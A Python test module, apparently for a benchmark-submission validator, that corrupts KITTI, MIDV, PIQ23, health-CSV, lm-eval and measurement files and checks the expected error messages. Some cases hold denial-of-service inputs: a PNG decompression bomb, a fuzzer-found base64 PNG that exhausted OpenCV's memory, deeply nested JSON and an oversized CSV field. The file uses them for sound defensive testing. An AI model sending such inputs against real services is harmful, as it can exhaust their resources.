# KITTI 16-bit flow PNGs


def _kitti_names(ws: Workspace, index: int = 0) -> Path:
    victim = ws.victim("flow/*_10.png", index=index)
    ws.names["sample"] = victim.name.removesuffix("_10.png")
    return victim


@case(
    "kitti-png-wrong-size",
    "kitti",
    r"sample \S*$sample: \S*$file: prediction is 320x94 \(WxH\) but the ground truth is 320x96",
    at="worker",
)
def _png_size(ws: Workspace) -> None:
    victim = _kitti_names(ws)
    flow, valid = read_kitti_flow(victim)
    write_kitti_flow(victim, flow[:-2], valid[:-2])


@case(
    "kitti-png-8-bit",
    "kitti",
    r"sample \S*$sample: unreadable prediction \S*$file: KITTI flow PNG must be 16-bit, found 8-bit",
    at="worker",
)
def _png_8bit(ws: Workspace) -> None:
    victim = _kitti_names(ws, 1)
    write_png(victim, np.zeros((96, 320, 3), dtype=np.uint8))


@case(
    "kitti-png-one-channel",
    "kitti",
    r"sample \S*$sample: unreadable prediction \S*$file: .*must have 3 channels .* found 1",
    at="worker",
)
def _png_gray(ws: Workspace) -> None:
    victim = _kitti_names(ws, 2)
    write_png(victim, np.zeros((96, 320), dtype=np.uint16))


@case("kitti-not-a-png", "kitti", r"sample \S*$sample: unreadable prediction \S*$file: not a PNG file", at="worker")
def _png_not(ws: Workspace) -> None:
    victim = _kitti_names(ws, 3)
    victim.write_bytes(b"\xff\xd8\xff\xe0 a JPEG, not a PNG")


@case(
    "kitti-png-truncated",
    "kitti",
    r"sample \S*$sample: unreadable prediction \S*$file: PNG could not be decoded",
    at="worker",
)
def _png_truncated(ws: Workspace) -> None:
    victim = _kitti_names(ws)
    victim.write_bytes(victim.read_bytes()[:200])


@case(
    "kitti-png-decompression-bomb",
    "kitti",
    r"sample \S*$sample: unreadable prediction \S*$file: PNG of 20000x20000 pixels is larger",
    at="worker",
)
def _png_bomb(ws: Workspace) -> None:
    victim = _kitti_names(ws, 1)
    victim.write_bytes(_png_header_only(20_000, 20_000))  # 2.4 GB of pixels declared in a 1 kB file


@case(
    "kitti-png-invalid-bit-depth",
    "kitti",
    r"sample \S*$sample: unreadable prediction \S*$file: PNG header is invalid \(bit depth 22",
    at="worker",
)
def _png_bad_depth(ws: Workspace) -> None:
    """Found by atheris: 45 bytes, 4x119 pixels at bit depth 22, made OpenCV's decoder take 4 GB."""
    victim = _kitti_names(ws, 2)
    victim.write_bytes(base64.b64decode("iVBORw0KGgoAAAANSUhEUgAAAAQAAAB3FjA2RFW7m0EA7gAAAElFTkSuQmCC"))


# ---------------------------------------------------------------------------------------------------------------
# MIDV JSONL


def _midv_edit(ws: Workspace, line: int, edit: Callable[[dict[str, Any]], object]) -> None:
    path = ws.predictions / "quads.jsonl"
    records: list[Any] = _jsonl(path)
    ws.names["id"] = records[line - 1]["id"]
    ws.names["line"] = str(line)
    records[line - 1] = edit(records[line - 1])
    _write_jsonl(path, records)


@case(
    "midv-non-finite-corner", "midv", r"sample $id: quads\.jsonl line 1: quad has a non-finite coordinate", at="worker"
)
def _midv_nan(ws: Workspace) -> None:
    _midv_edit(ws, 1, lambda r: r | {"quad": [[float("nan"), 1.0], [5.0, 1.0], [5.0, 5.0], [1.0, 5.0]]})


@case("midv-infinite-corner", "midv", r"sample $id: quads\.jsonl line 4: quad has a non-finite coordinate", at="worker")
def _midv_inf(ws: Workspace) -> None:
    path = ws.predictions / "quads.jsonl"
    lines = _csv_lines(path)
    ws.names["id"] = json.loads(lines[3])["id"]
    lines[3] = json.dumps({"id": ws.names["id"], "quad": [[1e999, 1], [5, 1], [5, 5], [1, 5]]})  # 1e999 -> inf
    _write_lines(path, lines)


@case(
    "midv-huge-integer-corner", "midv", r"sample $id: quads\.jsonl line 5: quad has a coordinate too large", at="worker"
)
def _midv_bigint(ws: Workspace) -> None:
    path = ws.predictions / "quads.jsonl"
    lines = _csv_lines(path)
    ws.names["id"] = json.loads(lines[4])["id"]
    big = "1" + "0" * 400  # an integer JSON allows, far beyond float range
    lines[4] = f'{{"id": "{ws.names["id"]}", "quad": [[{big}, 1], [5, 1], [5, 5], [1, 5]]}}'
    _write_lines(path, lines)


@case(
    "midv-astronomic-corners",
    "midv",
    r"sample $id: quads\.jsonl line 6: quad has a coordinate beyond ±1e\+07 px",
    at="worker",
)
def _midv_astronomic(ws: Workspace) -> None:
    huge = 1e300  # finite, but its square overflows
    _midv_edit(ws, 6, lambda r: r | {"quad": [[huge, huge], [-huge, huge], [-huge, -huge], [huge, -huge]]})


@case(
    "midv-wrong-corner-count",
    "midv",
    r"sample $id: quads\.jsonl line 2: quad must be null or 4 \[x, y\] number pairs, got \[\[1",
    at="worker",
)
def _midv_three(ws: Workspace) -> None:
    _midv_edit(ws, 2, lambda r: r | {"quad": [[1, 1], [50, 1], [50, 50]]})


@case("midv-self-intersecting-quad", "midv", r"sample $id: quads\.jsonl line 4: quad is self-intersecting", at="worker")
def _midv_bowtie(ws: Workspace) -> None:
    _midv_edit(ws, 4, lambda r: r | {"quad": [[10, 10], [100, 100], [100, 10], [10, 100]]})


@case(
    "midv-collinear-corners",
    "midv",
    r"sample $id: quads\.jsonl line 5: quad has three corners on one line",
    at="worker",
)
def _midv_collinear(ws: Workspace) -> None:
    _midv_edit(ws, 5, lambda r: r | {"quad": [[0, 0], [50, 0], [100, 0], [50, 80]]})


@case("midv-invalid-json-line", "midv", r"quads\.jsonl line 3: not valid JSON \(", at="worker")
def _midv_json(ws: Workspace) -> None:
    path = ws.predictions / "quads.jsonl"
    lines = _csv_lines(path)
    lines[2] = lines[2][: len(lines[2]) // 2]
    _write_lines(path, lines)


@case("midv-deeply-nested-json", "midv", r"quads\.jsonl line 3: not valid JSON \(nested too deeply\)", at="worker")
def _midv_deep(ws: Workspace) -> None:
    path = ws.predictions / "quads.jsonl"
    lines = _csv_lines(path)
    lines[2] = '{"id": "x", "quad": ' + "[" * 100_000 + "]" * 100_000 + "}"
    _write_lines(path, lines)


@case(
    "midv-not-an-object",
    "midv",
    r'quads\.jsonl line 2: expected an object \{"id": "<frame id>", "quad": \.\.\.\}',
    at="worker",
)
def _midv_list(ws: Workspace) -> None:
    _midv_edit(ws, 2, lambda r: [r["id"], r["quad"]])


@case(
    "midv-duplicate-ids",
    "midv",
    r"sample $id: 2 predictions \(quads\.jsonl line 1, quads\.jsonl line 13\)",
    at="worker",
)
def _midv_dup(ws: Workspace) -> None:
    path = ws.predictions / "quads.jsonl"
    records = _jsonl(path)
    ws.names["id"] = records[0]["id"]
    _write_jsonl(path, [*records, records[0]])


@case(
    "midv-id-not-in-split",
    "midv",
    r"sample midv500/99_nowhere/CS/CS99_01: not in this split \(quads\.jsonl line 13\)",
    at="worker",
)
def _midv_unknown(ws: Workspace) -> None:
    path = ws.predictions / "quads.jsonl"
    _write_jsonl(path, [*_jsonl(path), {"id": "midv500/99_nowhere/CS/CS99_01", "quad": None}])


@case("midv-not-utf8", "midv", r"quads\.jsonl: not UTF-8 text", at="worker")
def _midv_latin1(ws: Workspace) -> None:
    path = ws.predictions / "quads.jsonl"
    path.write_bytes(path.read_bytes() + b'{"id": "caf\xe9", "quad": null}\n')


@case(
    "midv-fields-not-strings",
    "midv-fields",
    r"sample $id: fields\.jsonl line 1: fields must be an object .* of strings",
    at="worker",
)
def _midv_fields(ws: Workspace) -> None:
    path = ws.predictions / "fields.jsonl"
    records = _jsonl(path)
    ws.names["id"] = records[0]["id"]
    records[0]["fields"] = {"field01": ["ANNA", "NOVAK"]}
    _write_jsonl(path, records)


# ---------------------------------------------------------------------------------------------------------------
# PIQ23 CSV (IMAGE,SCORE)


@case("piq23-not-utf8", "piq23", r"scores\.csv: not UTF-8 text", at="worker")
def _piq_latin1(ws: Workspace) -> None:
    path = ws.predictions / "scores.csv"
    path.write_bytes(path.read_bytes() + "caf\u00e9_Scene_1.jpg,0.5\n".encode("latin-1"))


@case(
    "piq23-missing-column",
    "piq23",
    r"scores\.csv line 1: no SCORE column; unexpected column\(s\) 'MOS' \(header: 'IMAGE,MOS'\); expected IMAGE,SCORE",
    at="worker",
)
def _piq_column(ws: Workspace) -> None:
    path = ws.predictions / "scores.csv"
    lines = _csv_lines(path)
    _write_lines(path, ["IMAGE,MOS", *lines[1:]])


@case(
    "piq23-duplicate-images",
    "piq23",
    r"sample $image: 2 predictions \(scores\.csv line 2, scores\.csv line 18\)",
    at="worker",
)
def _piq_dup(ws: Workspace) -> None:
    path = ws.predictions / "scores.csv"
    lines = _csv_lines(path)
    ws.names["image"] = lines[1].split(",")[0]
    _write_lines(path, [*lines, lines[1]])


@case(
    "piq23-nan-score", "piq23", r"image $image: SCORE 'nan' is not a finite number \(scores\.csv line 3\)", at="worker"
)
def _piq_nan(ws: Workspace) -> None:
    path = ws.predictions / "scores.csv"
    lines = _csv_lines(path)
    ws.names["image"] = lines[2].split(",")[0]
    lines[2] = ws.names["image"] + ",nan"
    _write_lines(path, lines)


@case(
    "piq23-image-not-in-split",
    "piq23",
    r"sample 999_Nowhere_Scene_9\.jpg: not in this split \(scores\.csv line 18\)",
    at="worker",
)
def _piq_unknown(ws: Workspace) -> None:
    path = ws.predictions / "scores.csv"
    _write_lines(path, [*_csv_lines(path), "C:\\evil\\999_Nowhere_Scene_9.jpg,0.1"])


@case(
    "piq23-field-over-csv-limit",
    "piq23",
    r"scores\.csv: not a readable CSV \(field larger than field limit",
    at="worker",
)
def _piq_huge_field(ws: Workspace) -> None:
    path = ws.predictions / "scores.csv"
    _write_lines(path, [*_csv_lines(path), "x" * 200_000 + ",0.5"])


@case(
    "piq23-two-csv-files", "piq23", r"expected exactly one IMAGE,SCORE csv, found more\.csv, scores\.csv", at="worker"
)
def _piq_two(ws: Workspace) -> None:
    shutil.copyfile(ws.predictions / "scores.csv", ws.predictions / "more.csv")


# ---------------------------------------------------------------------------------------------------------------
# Health CSV (window_id,prediction), PMData stress: scale 1-5


@case("health-not-utf8", "health", r"predictions\.csv: not UTF-8 text", at="worker")
def _health_latin1(ws: Workspace) -> None:
    path = ws.predictions / "predictions.csv"
    path.write_bytes(path.read_bytes() + b"pmdata/p01/caf\xe9,3\n")


@case(
    "health-missing-column",
    "health",
    r"predictions\.csv line 1: no prediction column \(header: 'window_id'\); expected window_id,prediction",
    at="worker",
)
def _health_column(ws: Workspace) -> None:
    path = ws.predictions / "predictions.csv"
    _write_lines(path, [line.split(",")[0] for line in _csv_lines(path)])


@case("health-extra-column", "health", r"predictions\.csv line 1: unexpected column\(s\) 'confidence'", at="worker")
def _health_extra_column(ws: Workspace) -> None:
    path = ws.predictions / "predictions.csv"
    lines = _csv_lines(path)
    _write_lines(path, [lines[0] + ",confidence", *(line + ",0.9" for line in lines[1:])])


@case("piq23-extra-cell", "piq23", r"scores\.csv line 3: 3 cells, the header has 2", at="worker")
def _piq23_extra_cell(ws: Workspace) -> None:
    path = ws.predictions / "scores.csv"
    lines = _csv_lines(path)
    _write_lines(path, [lines[0], lines[1], lines[2] + ",7", *lines[3:]])


@case(
    "health-duplicate-windows",
    "health",
    r"sample $window: 2 predictions \(predictions\.csv line 2, predictions\.csv line 43\)",
    at="worker",
)
def _health_dup(ws: Workspace) -> None:
    path = ws.predictions / "predictions.csv"
    lines = _csv_lines(path)
    ws.names["window"] = lines[1].split(",")[0]
    _write_lines(path, [*lines, lines[1]])


@case(
    "health-nan-prediction",
    "health",
    r"window $window: prediction 'NaN' is not a finite number \(predictions\.csv line 4\)",
    at="worker",
)
def _health_nan(ws: Workspace) -> None:
    path = ws.predictions / "predictions.csv"
    lines = _csv_lines(path)
    ws.names["window"] = lines[3].split(",")[0]
    lines[3] = ws.names["window"] + ",NaN"
    _write_lines(path, lines)


@case(
    "health-off-scale",
    "health",
    r"window $window: prediction 1e308 is not within 1-5 \(predictions\.csv line 5\)",
    at="worker",
)
def _health_scale(ws: Workspace) -> None:
    path = ws.predictions / "predictions.csv"
    lines = _csv_lines(path)
    ws.names["window"] = lines[4].split(",")[0]
    lines[4] = ws.names["window"] + ",1e308"
    _write_lines(path, lines)


@case(
    "health-window-not-in-split",
    "health",
    r"sample pmdata/p99/2020-01-01T00:00:00\.000Z: not in this split \(predictions\.csv line 43\)",
    at="worker",
)
def _health_unknown(ws: Workspace) -> None:
    path = ws.predictions / "predictions.csv"
    _write_lines(path, [*_csv_lines(path), "pmdata/p99/2020-01-01T00:00:00.000Z,3"])


# ---------------------------------------------------------------------------------------------------------------
# lm-eval output folders (Mobile-MMLU)


def _samples(ws: Workspace, task: str = "mobile_mmlu") -> Path:
    path = next(p for p in ws.predictions.rglob("samples_*.jsonl") if p.name.startswith(f"samples_{task}_2"))
    ws.names["samples"] = path.name
    return path


@case("lm-eval-truncated-samples", "lm-eval", r"$samples line 16: not JSON \(.*\)", at="worker")
def _lm_truncated(ws: Workspace) -> None:
    path = _samples(ws)
    data = path.read_bytes().rstrip(b"\n")
    path.write_bytes(data[: len(data) - 300])


@case("lm-eval-non-json-lines", "lm-eval", r"$samples line 3: not JSON \(Extra data\)", at="worker")
def _lm_chatter(ws: Workspace) -> None:
    path = _samples(ws)
    lines = _csv_lines(path)
    lines.insert(2, "2026-01-01 INFO lm_eval: Building contexts for mobile_mmlu on rank 0...")
    _write_lines(path, lines)


@case("lm-eval-not-utf8", "lm-eval", r"$samples: not UTF-8 text", at="worker")
def _lm_latin1(ws: Workspace) -> None:
    path = _samples(ws)
    path.write_bytes(path.read_bytes().replace(b"Which", b"Wh\xefch", 1))


@case(
    "lm-eval-record-without-doc-id",
    "lm-eval",
    r"$samples line 1: not an lm-eval sample record of task mobile_mmlu \(KeyError\('doc_id'\)\)",
    at="worker",
)
def _lm_doc_id(ws: Workspace) -> None:
    path = _samples(ws)
    records = _jsonl(path)
    del records[0]["doc_id"]
    _write_jsonl(path, records)


@case(
    "lm-eval-doc-not-an-object",
    "lm-eval",
    r"$samples line 2: not an lm-eval sample record .*doc is not a JSON object",
    at="worker",
)
def _lm_doc(ws: Workspace) -> None:
    path = _samples(ws)
    records = _jsonl(path)
    records[1]["doc"] = "the question"
    _write_jsonl(path, records)


@case(
    "lm-eval-huge-log-likelihood",
    "lm-eval",
    r"$samples line 3: not an lm-eval sample record .*OverflowError",
    at="worker",
)
def _lm_overflow(ws: Workspace) -> None:
    path = _samples(ws)
    lines = _csv_lines(path)
    record = json.loads(lines[2])
    record["filtered_resps"] = [["__BIG__", False]] * 4
    lines[2] = json.dumps(record).replace('"__BIG__"', "1" + "0" * 400)
    _write_lines(path, lines)


@case("lm-eval-duplicate-doc-id", "lm-eval", r"$samples line 17: duplicate doc_id 0 \(first at line 1\)", at="worker")
def _lm_dup(ws: Workspace) -> None:
    path = _samples(ws)
    lines = _csv_lines(path)
    _write_lines(path, [*lines, lines[0]])


@case(
    "lm-eval-results-not-an-object",
    "lm-eval",
    r"results_\S+\.json: not an lm-eval results file \(a JSON object\)",
    at="worker",
)
def _lm_results(ws: Workspace) -> None:
    next(ws.predictions.rglob("results_*.json")).write_text("[]\n", encoding="utf-8")


@case("lm-eval-results-not-json", "lm-eval", r"results_\S+\.json: not valid JSON", at="worker")
def _lm_results_json(ws: Workspace) -> None:
    path = next(ws.predictions.rglob("results_*.json"))
    path.write_bytes(path.read_bytes()[:1000])


@case(
    "lm-eval-two-runs",
    "lm-eval",
    r"expected the output of exactly one lm-eval run \(one results_<date>\.json\), found",
    at="worker",
)
def _lm_two(ws: Workspace) -> None:
    path = next(ws.predictions.rglob("results_*.json"))
    shutil.copyfile(path, path.with_name("results_2020-01-01T00-00-00.000000.json"))


# ---------------------------------------------------------------------------------------------------------------
# Measurement logs: every file in measurements/ must be read, at intake


@case(
    "measurement-unknown-format",
    "sintel",
    r"measurements/latency\.txt: measurement log rejected: .*not a measurement format mobench recognises",
)
def _meas_unknown(ws: Workspace) -> None:
    (ws.folder / "measurements" / "latency.txt").write_text("it was fast, trust me\n", encoding="utf-8")


@case("measurement-empty", "sintel", r"measurements/empty\.log: measurement log rejected: .*empty file")
def _meas_empty(ws: Workspace) -> None:
    (ws.folder / "measurements" / "empty.log").write_bytes(b"   \n")


@case(
    "measurement-binary", "sintel", r"measurements/trace\.perfetto: measurement log rejected: .*line 2: not UTF-8 text"
)
def _meas_binary(ws: Workspace) -> None:
    (ws.folder / "measurements" / "trace.perfetto").write_bytes(b"\x0a\xff\xfe\x00" + os.urandom(256))


@case(
    "measurement-records-non-finite",
    "sintel",
    r"measurements/host-measurements\.json: measurement log rejected: "
    r".*not a valid mobench-records file: records\.0\.value: inf is not finite",
)
def _meas_records(ws: Workspace) -> None:
    path = ws.folder / "measurements" / "host-measurements.json"
    data = json.loads(path.read_text(encoding="utf-8"))
    data["records"][0]["value"] = "Infinity"
    path.write_text(json.dumps(data), encoding="utf-8")


@case(
    "measurement-records-deeply-nested",
    "sintel",
    r"measurements/host-measurements\.json: measurement log rejected: .*not a valid mobench-records file",
)
def _meas_deep(ws: Workspace) -> None:
    (ws.folder / "measurements" / "host-measurements.json").write_text(
        '{"format": "mobench-records", "records": ' + "[" * 50_000 + "]" * 50_000 + "}", encoding="utf-8"
    )


@case(
    "measurement-tflite-bad-number",
    "sintel",
    r"measurements/benchmark_model\.log: measurement log rejected: .*line \d+",
)
def _meas_tflite(ws: Workspace) -> None:
    text = tflite_log().replace("avg=2.95034e+06", "avg=2.95.034e+06").replace("min=2727568", "min=nan")
    (ws.folder / "measurements" / "benchmark_model.log").write_text(text, encoding="utf-8")


@case("measurement-tflite-truncated", "sintel", r"measurements/benchmark_model\.log: measurement log rejected")
def _meas_tflite_cut(ws: Workspace) -> None:
    text = tflite_log()
    (ws.folder / "measurements" / "benchmark_model.log").write_text(
        text[: text.index("count=50") + 30], encoding="utf-8"
    )


@case(
    "measurement-llama-bench-bad-line",
    "sintel",
    r"measurements/llama-bench\.jsonl: measurement log rejected: .*line 2: invalid JSON line",
)
def _meas_llama(ws: Workspace) -> None:
    from tests.fixtures.measurement_logs import llama_bench_jsonl, llama_row

    good = llama_bench_jsonl([llama_row(512, 0, [1_000_000, 1_100_000])])
    (ws.folder / "measurements" / "llama-bench.jsonl").write_text(good + '{"build_commit": \n', encoding="utf-8")


@case(
    "measurement-power-trace-without-window",
    "sintel",
    r"measurements/monsoon\.csv: a raw power trace \(\S+\) needs the inference window",
)
def _meas_trace(ws: Workspace) -> None:
    rows = [(0.0002 * i, 120.0 + i % 7, 4.2) for i in range(50)]
    (ws.folder / "measurements" / "monsoon.csv").write_text(monsoon_csv(rows), encoding="utf-8")


@case("measurement-log-is-a-fifo", "sintel", r"measurements/live\.log: not a regular file")
def _meas_fifo(ws: Workspace) -> None:
    os.mkfifo(ws.folder / "measurements" / "live.log")
